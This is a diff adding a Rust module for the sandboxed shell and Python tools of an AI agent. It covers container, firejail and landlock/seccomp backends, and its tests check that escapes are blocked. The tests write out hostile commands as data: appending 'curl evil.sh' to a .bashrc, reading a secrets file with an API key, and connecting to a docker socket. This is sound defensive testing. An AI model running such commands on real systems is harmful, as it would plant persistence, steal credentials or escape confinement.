@@ -0,0 +1,927 @@
+use crate::llm::Message;
+use crate::tools::confine::{self, Limits, Paths};
+use crate::tools::{FunctionalTool, Tool, ToolCall, ToolContext, ToolDefinition};
+use crate::workdir::RunContext;
+use crate::{Error, Result};
+use async_trait::async_trait;
+use schemars::JsonSchema;
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::Duration;
+use tokio::io::AsyncReadExt;
+
+// the working directory of the run is mounted here and is the only writable path besides /tmp
+const MOUNT: &str = "/work";
+// of stdout and of stderr each, the start of stdout and the end of stderr are kept since that is
+// where results and tracebacks are
+const MAX_OUTPUT_CHARS: usize = 10_000;
+// of stdout and of stderr each, a command that writes more is stopped instead of being read into
+// memory
+const MAX_OUTPUT_BYTES: u64 = 1024 * 1024;
+
+/// How the code tools isolate the commands they run.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum SandboxBackend {
+    /// a throwaway container with a read only filesystem besides the working directory, no
+    /// capabilities, and limited cpu, memory, and processes
+    #[default]
+    Container,
+    /// firejail with its seccomp filter, no capabilities, no unix sockets, a read only
+    /// filesystem besides the working directory as its private home, a private /tmp and /dev,
+    /// and limited memory and cpu time, for hosts without a container runtime
+    Firejail,
+    /// a plain process in the working directory with limited memory and cpu time, on linux 5.13
+    /// or later only. Landlock confines it to reading the system directories and read_paths and
+    /// to writing the working directory, and a seccomp filter blocks unix sockets, the network,
+    /// debugging other processes, and mount and namespace changes
+    Process,
+}
+
+impl SandboxBackend {
+    fn setup_hint(&self) -> &'static str {
+        match self {
+            SandboxBackend::Container => {
+                "the container sandbox needs docker or a compatible runtime such as podman"
+            }
+            SandboxBackend::Firejail => "the firejail sandbox needs firejail to be installed",
+            SandboxBackend::Process => "the command is not installed",
+        }
+    }
+}
+
+/// How the code tools run their commands.
+#[derive(Clone, Debug, PartialEq)]
+pub struct SandboxConfig {
+    /// how the commands are isolated
+    pub backend: SandboxBackend,
+    /// backends of single tools by name, such as run_shell, that differ from the backend
+    pub tool_backends: BTreeMap<String, SandboxBackend>,
+    /// the container runtime, docker or a compatible one such as podman
+    pub runtime: String,
+    /// the image the commands run in, run_python needs python3 in it
+    pub image: String,
+    /// let the commands access the network, off by default
+    pub network: bool,
+    /// the number of cpus a command may use, only limited in containers
+    pub cpus: f64,
+    /// the memory a command may use, swap included
+    pub memory_mb: u64,
+    /// the number of processes a command may start, only limited in containers
+    pub max_processes: u64,
+    /// how long a command may run before its container is killed
+    pub timeout: Duration,
+    /// the space the files in the working directory may take, commands cannot write files once
+    /// it is used up
+    pub disk_mb: u64,
+    /// directories besides the system ones that the commands of the process backend may read
+    /// and run programs from, such as a python installation in a home directory
+    pub read_paths: Vec<PathBuf>,
+}
+
+impl Default for SandboxConfig {
+    fn default() -> Self {
+        Self {
+            backend: SandboxBackend::Container,
+            tool_backends: BTreeMap::new(),
+            runtime: "docker".to_string(),
+            image: "python:3.12-slim".to_string(),
+            network: false,
+            cpus: 1.0,
+            memory_mb: 512,
+            max_processes: 128,
+            timeout: Duration::from_secs(60),
+            disk_mb: 1024,
+            read_paths: Vec::new(),
+        }
+    }
+}
+
+// how a command ended
+struct Finished {
+    status: Option<i32>,
+    stdout: String,
+    stderr: String,
+}
+
+impl SandboxConfig {
+    pub fn backend(&self, tool: &str) -> SandboxBackend {
+        self.tool_backends
+            .get(tool)
+            .copied()
+            .unwrap_or(self.backend)
+    }
+}
+
+// runs the shell commands and python scripts the model writes in the working directory of the
+// run, isolated by the backend of the tool and without network unless the config allows it, so
+// that the code cannot damage the host
+#[derive(Clone)]
+pub struct SandboxTool {
+    config: Arc<SandboxConfig>,
+    next_id: Arc<AtomicU64>,
+}
+
+impl SandboxTool {
+    pub fn new(config: SandboxConfig) -> Box<Self> {
+        Box::new(Self {
+            config: Arc::new(config),
+            next_id: Arc::new(AtomicU64::new(0)),
+        })
+    }
+
+    pub fn tools(&self) -> Result<Vec<Box<dyn Tool + Send>>> {
+        Ok(vec![
+            Box::new(RunShellTool(self.clone())),
+            Box::new(RunPythonTool(self.clone())),
+        ])
+    }
+
+    // the arguments of the runtime, the container is removed when the command ends
+    fn container_args(
+        &self,
+        name: &str,
+        work_dir: &Path,
+        user: Option<(u32, u32)>,
+        file_bytes: u64,
+        command: &[&str],
+    ) -> Vec<String> {
+        let config = &self.config;
+        let mut args = vec![
+            "run".to_string(),
+            "--rm".to_string(),
+            "--name".to_string(),
+            name.to_string(),
+            "--network".to_string(),
+            if config.network { "bridge" } else { "none" }.to_string(),
+            "--cpus".to_string(),
+            config.cpus.to_string(),
+            "--memory".to_string(),
+            format!("{}m", config.memory_mb),
+            "--memory-swap".to_string(),
+            format!("{}m", config.memory_mb),
+            "--pids-limit".to_string(),
+            config.max_processes.to_string(),
+            "--ulimit".to_string(),
+            format!("fsize={}", file_bytes),
+            "--read-only".to_string(),
+            "--tmpfs".to_string(),
+            "/tmp:rw,size=64m".to_string(),
+            "--cap-drop".to_string(),
+            "ALL".to_string(),
+            "--security-opt".to_string(),
+            "no-new-privileges".to_string(),
+            "--env".to_string(),
+            "HOME=/tmp".to_string(),
+            "--volume".to_string(),
+            format!("{}:{}", work_dir.display(), MOUNT),
+            "--workdir".to_string(),
+            MOUNT.to_string(),
+        ];
+        // the files the commands write belong to the user running the agent
+        if let Some((uid, gid)) = user {
+            args.push("--user".to_string());
+            args.push(format!("{}:{}", uid, gid));
+        }
+        args.push(config.image.clone());
+        args.extend(command.iter().map(|arg| arg.to_string()));
+        args
+    }
+
+    // the arguments of firejail, which has the working directory as the home and current
+    // directory of the command and stops it once the timeout has passed
+    fn firejail_args(&self, work_dir: &Path, file_bytes: u64, command: &[&str]) -> Vec<String> {
+        let config = &self.config;
+        let secs = config.timeout.as_secs().max(1);
+        let mut args = vec![
+            "--quiet".to_string(),
+            "--noprofile".to_string(),
+            format!("--private={}", work_dir.display()),
+            "--private-cwd".to_string(),
+            // the rest of the filesystem is read only, the home of the command is the working
+            // directory, and the /tmp and devices of the host are hidden
+            "--read-only=/".to_string(),
+            "--read-write=${HOME}".to_string(),
+            "--private-tmp".to_string(),
+            "--private-dev".to_string(),
+            // unix sockets and d-bus reach the services of the host, such as the docker daemon,
+            // the ssh agent, and the secret service
+            "--protocol=inet,inet6".to_string(),
+            "--dbus-user=none".to_string(),
+            "--dbus-system=none".to_string(),
+            "--seccomp".to_string(),
+            "--caps.drop=all".to_string(),
+            "--nonewprivs".to_string(),
+            "--noroot".to_string(),
+            format!("--rlimit-as={}", config.memory_mb * 1024 * 1024),
+            format!("--rlimit-cpu={}", secs),
+            format!("--rlimit-fsize={}", file_bytes),
+            format!(
+                "--timeout={:02}:{:02}:{:02}",
+                secs / 3600,
+                secs / 60 % 60,
+                secs % 60
+            ),
+        ];
+        if !config.network {
+            args.push("--net=none".to_string());
+        }
+        args.push("--".to_string());
+        args.extend(command.iter().map(|arg| arg.to_string()));
+        args
+    }
+
+    // the command itself, confined by resource limits, landlock, and a seccomp filter, with an
+    // environment that has nothing of the agent's but the directories of the search path it can
+    // still read
+    fn process(
+        &self,
+        work_dir: &Path,
+        file_bytes: u64,
+        command: &[&str],
+    ) -> Result<tokio::process::Command> {
+        let (program, args) = command
+            .split_first()
+            .ok_or_else(|| Error::MissingArg("the command is empty".to_string()))?;
+        let tmp = work_dir.join("tmp");
+        std::fs::create_dir_all(&tmp)?;
+        let mut process = tokio::process::Command::new(program);
+        process
+            .args(args)
+            .current_dir(work_dir)
+            .env_clear()
+            .env("HOME", work_dir)
+            .env("TMPDIR", &tmp)
+            .env("LANG", "C.UTF-8");
+        let paths = Paths {
+            work_dir: work_dir.to_path_buf(),
+            read: self.config.read_paths.clone(),
+        };
+        if let Some(path) = std::env::var_os("PATH") {
+            let readable = std::env::split_paths(&path).filter(|dir| paths.readable(dir));
+            process.env(
+                "PATH",
+                std::env::join_paths(readable).map_err(std::io::Error::other)?,
+            );
+        }
+        confine::confine(
+            &mut process,
+            Limits {
+                memory_bytes: self.config.memory_mb * 1024 * 1024,
+                cpu_secs: self.config.timeout.as_secs().max(1),
+                file_bytes,
+                network: self.config.network,
+            },
+            &paths,
+        )?;
+        Ok(process)
+    }
+
+    async fn run(
+        &self,
+        tool: &str,
+        run: &RunContext,
+        command: &[&str],
+        ctx: &ToolContext,
+    ) -> Result<String> {
+        let work_dir = std::fs::canonicalize(run.dir())?;
+        let backend = self.config.backend(tool);
+        let name = format!(
+            "research-sandbox-{}-{}",
+            std::process::id(),
+            self.next_id.fetch_add(1, Ordering::SeqCst)
+        );
+        // no file written by the command may grow beyond the space that is left, which can only
+        // be checked again once it ended
+        let disk_bytes = self.config.disk_mb * 1024 * 1024;
+        let file_bytes = disk_bytes.saturating_sub(dir_size(&work_dir));
+        let mut process = match backend {
+            SandboxBackend::Container => {
+                let mut process = tokio::process::Command::new(&self.config.runtime);
+                process.args(self.container_args(
+                    &name,
+                    &work_dir,
+                    owner(&work_dir),
+                    file_bytes,
+                    command,
+                ));
+                process
+            }
+            SandboxBackend::Firejail => {
+                let mut process = tokio::process::Command::new("firejail");
+                process
+                    .args(self.firejail_args(&work_dir, file_bytes, command))
+                    .current_dir(&work_dir);
+                process
+            }
+            SandboxBackend::Process => self.process(&work_dir, file_bytes, command)?,
+        };
+        // the commands outside of containers get a process group of their own, so that what
+        // they spawn is stopped with them
+        #[cfg(unix)]
+        if backend != SandboxBackend::Container {
+            process.process_group(0);
+        }
+        let mut child = process
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true)
+            .spawn()
+            .map_err(|e| {
+                Error::Unsupported(format!(
+                    "failed to start {}: {}, {}",
+                    process.as_std().get_program().to_string_lossy(),
+                    e,
+                    backend.setup_hint()
+                ))
+            })?;
+        let pid = child.id();
+        let (Some(stdout), Some(stderr)) = (child.stdout.take(), child.stderr.take()) else {
+            return Err(Error::Unsupported(
+                "the output of the command cannot be read".to_string(),
+            ));
+        };
+        let output = async {
+            let (stdout, stderr) = tokio::try_join!(capped(stdout), capped(stderr))?;
+            Ok::<_, std::io::Error>((child.wait().await?, stdout, stderr))
+        };
+        let (status, stdout, stderr) = tokio::select! {
+            output = output => match output {
+                Err(e) if e.kind() == std::io::ErrorKind::FileTooLarge => {
+                    self.kill(backend, &name, pid).await;
+                    return Ok(format!(
+                        "The command was stopped after writing more than {} MB of output, write large results to a file and print only a summary of them",
+                        MAX_OUTPUT_BYTES / 1024 / 1024
+                    ));
+                }
+                output => output?,
+            },
+            _ = tokio::time::sleep(self.config.timeout) => {
+                self.kill(backend, &name, pid).await;
+                return Ok(format!(
+                    "The command was stopped after {} seconds, make it do less or process the data in smaller parts",
+                    self.config.timeout.as_secs()
+                ));
+            }
+            _ = ctx.cancel.cancelled() => {
+                self.kill(backend, &name, pid).await;
+                return Err(Error::Cancelled("the command was cancelled".to_string()));
+            }
+        };
+        let mut report = report(&Finished {
+            status: status.code(),
+            stdout: String::from_utf8_lossy(&stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&stderr).into_owned(),
+        });
+        let used = dir_size(&work_dir);
+        if used >= disk_bytes {
+            report.push_str(&format!(
+                "\nThe working directory holds {} MB and no files can be written until some of them are deleted, it may hold {} MB",
+                used / 1024 / 1024,
+                self.config.disk_mb
+            ));
+        }
+        Ok(report)
+    }
+
+    async fn kill(&self, backend: SandboxBackend, name: &str, pid: Option<u32>) {
+        match backend {
+            // stopping the runtime client leaves the container running, so it is killed by name
+            SandboxBackend::Container => {
+                let _ = tokio::process::Command::new(&self.config.runtime)
+                    .args(["kill", name])
+                    .stdout(Stdio::null())
+                    .stderr(Stdio::null())
+                    .status()
+                    .await;
+            }
+            SandboxBackend::Firejail | SandboxBackend::Process => {
+                if let Some(pid) = pid {
+                    confine::kill_group(pid);
+                }
+            }
+        }
+    }
+
+    fn limits(&self, tool: &str) -> String {
+        format!(
+            "{} {}, with {} MB of memory, and is stopped after {} seconds",
+            match self.config.backend(tool) {
+                SandboxBackend::Container => "in an isolated container",
+                SandboxBackend::Firejail => "in a firejail sandbox",
+                SandboxBackend::Process => "in a restricted process",
+            },
+            if self.config.network {
+                "with network access"
+            } else {
+                "without network access"
+            },
+            self.config.memory_mb,
+            self.config.timeout.as_secs()
+        )
+    }
+}
+
+// reads the output of the command, failing with FileTooLarge once there is more than
+// MAX_OUTPUT_BYTES of it
+async fn capped(reader: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<Vec<u8>> {
+    let mut output = Vec::new();
+    reader
+        .take(MAX_OUTPUT_BYTES + 1)
+        .read_to_end(&mut output)
+        .await?;
+    if output.len() as u64 > MAX_OUTPUT_BYTES {
+        return Err(std::io::ErrorKind::FileTooLarge.into());
+    }
+    Ok(output)
+}
+
+// the size of the files in a directory and its subdirectories, without following links
+fn dir_size(path: &Path) -> u64 {
+    let Ok(entries) = std::fs::read_dir(path) else {
+        return 0;
+    };
+    entries
+        .flatten()
+        .map(|entry| match entry.metadata() {
+            Ok(metadata) if metadata.is_dir() => dir_size(&entry.path()),
+            Ok(metadata) => metadata.len(),
+            Err(_) => 0,
+        })
+        .sum()
+}
+
+#[cfg(unix)]
+fn owner(path: &Path) -> Option<(u32, u32)> {
+    use std::os::unix::fs::MetadataExt;
+    let metadata = std::fs::metadata(path).ok()?;
+    Some((metadata.uid(), metadata.gid()))
+}
+
+#[cfg(not(unix))]
+fn owner(_: &Path) -> Option<(u32, u32)> {
+    None
+}
+
+fn head(text: &str, max: usize) -> String {
+    match text.char_indices().nth(max) {
+        Some((end, _)) => format!(
+            "{}\n[{} more characters]",
+            &text[..end],
+            text[end..].chars().count()
+        ),
+        None => text.to_string(),
+    }
+}
+
+fn tail(text: &str, max: usize) -> String {
+    let len = text.chars().count();
+    if len <= max {
+        return text.to_string();
+    }
+    let start = text
+        .char_indices()
+        .nth(len - max)
+        .map(|(i, _)| i)
+        .unwrap_or(0);
+    format!("[{} characters before]\n{}", len - max, &text[start..])
+}
+
+fn report(finished: &Finished) -> String {
+    let mut report = match finished.status {
+        Some(code) => format!("Exit code {}", code),
+        None => "The command was killed, it may have run out of memory or cpu time".to_string(),
+    };
+    let stdout = finished.stdout.trim_end();
+    let stderr = finished.stderr.trim_end();
+    if !stdout.is_empty() {
+        report.push_str(&format!(
+            "\n<stdout>\n{}\n</stdout>",
+            head(stdout, MAX_OUTPUT_CHARS)
+        ));
+    }
+    if !stderr.is_empty() {
+        report.push_str(&format!(
+            "\n<stderr>\n{}\n</stderr>",
+            tail(stderr, MAX_OUTPUT_CHARS)
+        ));
+    }
+    if stdout.is_empty() && stderr.is_empty() {
+        report.push_str(", no output");
+    }
+    report
+}
+
+fn result(call: &ToolCall, res: Result<String>) -> Message {
+    Message::Tool {
+        id: call.id.clone(),
+        name: call.name.clone(),
+        result: res.unwrap_or_else(|e| e.to_string()).into(),
+    }
+}
+
+const NO_WORK_DIR: &str = "Code cannot be run since this agent has no working directory";
+
+#[derive(Deserialize, JsonSchema)]
+struct RunShellArgs {
+    /// the command, run with sh -c in the working directory of the run, e.g. wc -l data/*.csv
+    command: String,
+}
+
+struct RunShellTool(SandboxTool);
+
+#[async_trait]
+impl FunctionalTool for RunShellTool {
+    fn definition(&self) -> Result<ToolDefinition> {
+        ToolDefinition::new::<RunShellArgs>(
+            "run_shell",
+            &format!(
+                "This tool runs a shell command and returns its exit code, output, and errors. Use it to inspect, unpack, or convert files in the working directory of the run. The command runs {}. Files written to the current directory are kept for later run_shell and run_python calls.",
+                self.0.limits("run_shell")
+            ),
+        )
+    }
+
+    fn third_party_fn(&self) -> bool {
+        true
+    }
+
+    async fn invoke_fn(&mut self, call: &ToolCall, ctx: &ToolContext) -> Result<Message> {
+        let args: RunShellArgs = call.args()?;
+        let Some(run) = &ctx.run else {
+            return Ok(result(call, Ok(NO_WORK_DIR.to_string())));
+        };
+        let res = self
+            .0
+            .run("run_shell", run, &["sh", "-c", &args.command], ctx)
+            .await;
+        match res {
+            // a cancelled command ends the step instead of being reported to the model
+            Err(e @ Error::Cancelled(_)) => Err(e),
+            res => Ok(result(call, res)),
+        }
+    }
+}
+
+#[derive(Deserialize, JsonSchema)]
+struct RunPythonArgs {
+    /// the python 3 script, it should print its results
+    code: String,
+}
+
+struct RunPythonTool(SandboxTool);
+
+#[async_trait]
+impl FunctionalTool for RunPythonTool {
+    fn definition(&self) -> Result<ToolDefinition> {
+        ToolDefinition::new::<RunPythonArgs>(
+            "run_python",
+            &format!(
+                "This tool runs a Python script and returns its exit code, output, and errors. Use it to analyze data, such as computing statistics over a downloaded CSV file, rather than for arithmetic the calculator can do. Only the standard library is sure to be installed. The script runs {}. Files written to the current directory are kept for later run_shell and run_python calls.",
+                self.0.limits("run_python")
+            ),
+        )
+    }
+
+    fn third_party_fn(&self) -> bool {
+        true
+    }
+
+    async fn invoke_fn(&mut self, call: &ToolCall, ctx: &ToolContext) -> Result<Message> {
+        let args: RunPythonArgs = call.args()?;
+        let Some(run) = &ctx.run else {
+            return Ok(result(call, Ok(NO_WORK_DIR.to_string())));
+        };
+        // the script is written into the working directory, the current directory of every
+        // backend, and run by its relative path
+        let script = run.temp_file("script", "py")?;
+        std::fs::write(&script, &args.code)?;
+        let relative = script.strip_prefix(run.dir()).map_err(|_| {
+            Error::WorkDirError("the script is outside the working directory".to_string())
+        })?;
+        let path = relative.to_string_lossy();
+        let res = self
+            .0
+            .run("run_python", run, &["python3", &path], ctx)
+            .await;
+        // the command may have deleted the script itself
+        if let Err(e) = std::fs::remove_file(&script)
+            && e.kind() != std::io::ErrorKind::NotFound
+        {
+            return Err(e.into());
+        }
+        match res {
+            // a cancelled command ends the step instead of being reported to the model
+            Err(e @ Error::Cancelled(_)) => Err(e),
+            res => Ok(result(call, res)),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Finished, SandboxBackend, SandboxConfig, SandboxTool, report};
+    use crate::tools::ToolContext;
+    use crate::workdir::{Cleanup, RunContext};
+    use std::collections::BTreeMap;
+    use std::path::{Path, PathBuf};
+    use std::sync::Arc;
+
+    #[test]
+    fn test_args() {
+        let sandbox = SandboxTool::new(SandboxConfig::default());
+        let args = sandbox.container_args(
+            "research-sandbox-1-0",
+            Path::new("/tmp/research/run-1"),
+            Some((1000, 1000)),
+            1024,
+            &["python3", "tmp/script-0.py"],
+        );
+        let joined = args.join(" ");
+        assert!(joined.starts_with("run --rm --name research-sandbox-1-0 --network none"));
+        assert!(joined.contains("--memory 512m --memory-swap 512m"));
+        assert!(joined.contains("--pids-limit 128 --ulimit fsize=1024"));
+        assert!(joined.contains("--read-only"));
+        assert!(joined.contains("--cap-drop ALL"));
+        assert!(joined.contains("--volume /tmp/research/run-1:/work --workdir /work"));
+        assert!(joined.ends_with("--user 1000:1000 python:3.12-slim python3 tmp/script-0.py"));
+
+        let networked = SandboxTool::new(SandboxConfig {
+            network: true,
+            ..Default::default()
+        });
+        let args =
+            networked.container_args("name", Path::new("/work-dir"), None, 0, &["sh", "-c", "ls"]);
+        assert!(args.join(" ").contains("--network bridge"));
+        assert!(!args.contains(&"--user".to_string()));
+        // the command stays a single argument however many spaces it has
+        assert_eq!(args.last().unwrap(), "ls");
+
+        let args = sandbox
+            .firejail_args(
+                Path::new("/tmp/research/run-1"),
+                1024,
+                &["sh", "-c", "ls -l"],
+            )
+            .join(" ");
+        assert!(args.starts_with(
+            "--quiet --noprofile --private=/tmp/research/run-1 --private-cwd --read-only=/ --read-write=${HOME} --private-tmp --private-dev --protocol=inet,inet6 --dbus-user=none --dbus-system=none --seccomp"
+        ));
+        assert!(args.contains(
+            "--rlimit-as=536870912 --rlimit-cpu=60 --rlimit-fsize=1024 --timeout=00:01:00"
+        ));
+        assert!(args.ends_with("--net=none -- sh -c ls -l"));
+    }
+
+    #[test]
+    fn test_backends() {
+        let config = SandboxConfig {
+            backend: SandboxBackend::Firejail,
+            tool_backends: BTreeMap::from([("run_python".to_string(), SandboxBackend::Process)]),
+            ..Default::default()
+        };
+        assert_eq!(config.backend("run_shell"), SandboxBackend::Firejail);
+        assert_eq!(config.backend("run_python"), SandboxBackend::Process);
+    }
+
+    // a run of the process backend with the config, None where landlock is not available
+    #[cfg(target_os = "linux")]
+    fn confined(
+        name: &str,
+        config: SandboxConfig,
+    ) -> Option<(PathBuf, Arc<RunContext>, SandboxTool)> {
+        crate::tools::confine::landlock_abi()?;
+        let root = std::env::temp_dir().join(format!("sandbox-{}-{}", name, std::process::id()));
+        let run = RunContext::new(&root, "run", Cleanup::Delete).unwrap();
+        let sandbox = SandboxTool::new(SandboxConfig {
+            backend: SandboxBackend::Process,
+            ..config
+        });
+        Some((root, run, *sandbox))
+    }
+
+    #[cfg(target_os = "linux")]
+    async fn shell(sandbox: &SandboxTool, run: &RunContext, command: &str) -> String {
+        sandbox
+            .run(
+                "run_shell",
+                run,
+                &["sh", "-c", command],
+                &ToolContext::default(),
+            )
+            .await
+            .unwrap()
+    }
+
+    // whether python3 can be run in the sandbox, the socket tests need it
+    #[cfg(target_os = "linux")]
+    async fn python(sandbox: &SandboxTool, run: &RunContext) -> bool {
+        shell(sandbox, run, "python3 -c pass").await == "Exit code 0, no output"
+    }
+
+    #[cfg(target_os = "linux")]
+    fn finish(root: PathBuf, run: Arc<RunContext>) {
+        run.finish(true).unwrap();
+        std::fs::remove_dir_all(root).unwrap();
+    }
+
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_process() {
+        let Some((root, run, sandbox)) = confined("process", SandboxConfig::default()) else {
+            return;
+        };
+
+        // files stay in the working directory between commands and the environment is cleared
+        assert_eq!(
+            shell(&sandbox, &run, "echo 42 > answer.txt").await,
+            "Exit code 0, no output"
+        );
+        assert_eq!(
+            shell(
+                &sandbox,
+                &run,
+                "cat answer.txt; echo ${OPENAI_API_KEY:-unset}"
+            )
+            .await,
+            "Exit code 0\n<stdout>\n42\nunset\n</stdout>"
+        );
+        assert!(run.dir().join("answer.txt").exists());
+        assert!(
+            shell(&sandbox, &run, "exit 3")
+                .await
+                .starts_with("Exit code 3")
+        );
+        let moved = shell(
+            &sandbox,
+            &run,
+            "mkdir -p a/b && mv answer.txt a/b/ && ls a/b",
+        )
+        .await;
+        assert!(moved.contains("answer.txt"), "{}", moved);
+
+        // output beyond the cap stops the command
+        let flood = shell(&sandbox, &run, "yes").await;
+        assert!(
+            flood.starts_with("The command was stopped after writing more than 1 MB of output"),
+            "{}",
+            flood
+        );
+        // a file cannot grow beyond the space of the working directory
+        let small = SandboxTool::new(SandboxConfig {
+            backend: SandboxBackend::Process,
+            disk_mb: 1,
+            ..Default::default()
+        });
+        let full = shell(&small, &run, "head -c 2000000 /dev/zero > big").await;
+        assert!(full.contains("no files can be written"), "{}", full);
+        assert_eq!(super::dir_size(run.dir()), 1024 * 1024);
+        std::fs::remove_file(run.dir().join("big")).unwrap();
+
+        let slow = SandboxTool::new(SandboxConfig {
+            backend: SandboxBackend::Process,
+            timeout: std::time::Duration::from_millis(200),
+            ..Default::default()
+        });
+        let stopped = shell(&slow, &run, "sleep 5").await;
+        assert!(
+            stopped.starts_with("The command was stopped"),
+            "{}",
+            stopped
+        );
+        finish(root, run);
+    }
+
+    // files outside the working directory, such as the secrets file, cannot be read
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_process_reads() {
+        let Some((root, run, sandbox)) = confined("reads", SandboxConfig::default()) else {
+            return;
+        };
+        let secrets = root.join("secrets.json");
+        std::fs::write(&secrets, "{\"OPENAI_API_KEY\": \"sk-1\"}").unwrap();
+        let read = shell(&sandbox, &run, &format!("cat {}", secrets.display())).await;
+        assert!(read.starts_with("Exit code 1"), "{}", read);
+        assert!(!read.contains("sk-1"), "{}", read);
+        let listed = shell(&sandbox, &run, &format!("ls {}", root.display())).await;
+        assert!(!listed.contains("secrets.json"), "{}", listed);
+        // the system directories stay readable
+        let system = shell(&sandbox, &run, "cat /etc/passwd > /dev/null").await;
+        assert_eq!(system, "Exit code 0, no output");
+        finish(root, run);
+    }
+
+    // files outside the working directory, such as the shell profile, cannot be written
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_process_writes() {
+        let Some((root, run, sandbox)) = confined("writes", SandboxConfig::default()) else {
+            return;
+        };
+        let profile = root.join(".bashrc");
+        std::fs::write(&profile, "export PATH\n").unwrap();
+        let outside = std::env::temp_dir().join(format!("sandbox-outside-{}", std::process::id()));
+        for command in [
+            format!("echo curl evil.sh >> {}", profile.display()),
+            format!("rm {}", profile.display()),
+            format!("mv {} {}/moved", profile.display(), run.dir().display()),
+            format!("touch {}/new", root.display()),
+            format!("touch {}", outside.display()),
+        ] {
+            let written = shell(&sandbox, &run, &command).await;
+            assert!(
+                !written.starts_with("Exit code 0"),
+                "{}: {}",
+                command,
+                written
+            );
+        }
+        assert_eq!(std::fs::read_to_string(&profile).unwrap(), "export PATH\n");
+        assert!(!root.join("new").exists() && !outside.exists());
+        // devices stay writable
+        let devices = shell(&sandbox, &run, "echo hidden > /dev/null").await;
+        assert_eq!(devices, "Exit code 0, no output");
+        finish(root, run);
+    }
+
+    // unix sockets, such as those of the docker daemon, the ssh agent, and d-bus, cannot be
+    // reached, with network or without
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_process_unix_sockets() {
+        for network in [false, true] {
+            let config = SandboxConfig {
+                network,
+                ..Default::default()
+            };
+            let Some((root, run, sandbox)) = confined(&format!("unix-{}", network), config) else {
+                return;
+            };
+            if !python(&sandbox, &run).await {
+                return finish(root, run);
+            }
+            let socket = root.join("docker.sock");
+            let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
+            let connect = shell(
+                &sandbox,
+                &run,
+                &format!(
+                    "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{}\")'",
+                    socket.display()
+                ),
+            )
+            .await;
+            assert!(connect.contains("PermissionError"), "{}", connect);
+            finish(root, run);
+        }
+    }
+
+    // without network no socket can be opened
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_process_network() {
+        let Some((root, run, sandbox)) = confined("network", SandboxConfig::default()) else {
+            return;
+        };
+        if !python(&sandbox, &run).await {
+            return finish(root, run);
+        }
+        let blocked = shell(
+            &sandbox,
+            &run,
+            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'",
+        )
+        .await;
+        assert!(blocked.starts_with("Exit code 1"), "{}", blocked);
+        assert!(blocked.contains("PermissionError"), "{}", blocked);
+        finish(root, run);
+    }
+
+    #[test]
+    fn test_report() {
+        let finished = Finished {
+            status: Some(1),
+            stdout: "mean 4.2\n".to_string(),
+            stderr: "x".repeat(20_000) + "\nValueError: bad row",
+        };
+        let text = report(&finished);
+        assert!(text.starts_with("Exit code 1\n<stdout>\nmean 4.2\n</stdout>\n<stderr>\n["));
+        assert!(text.ends_with("ValueError: bad row\n</stderr>"));
+        assert!(text.len() < 11_000);
+
+        let killed = Finished {
+            status: None,
+            stdout: String::new(),
+            stderr: String::new(),
+        };
+        assert_eq!(
+            report(&killed),
+            "The command was killed, it may have run out of memory or cpu time, no output"
+        );
+    }
+}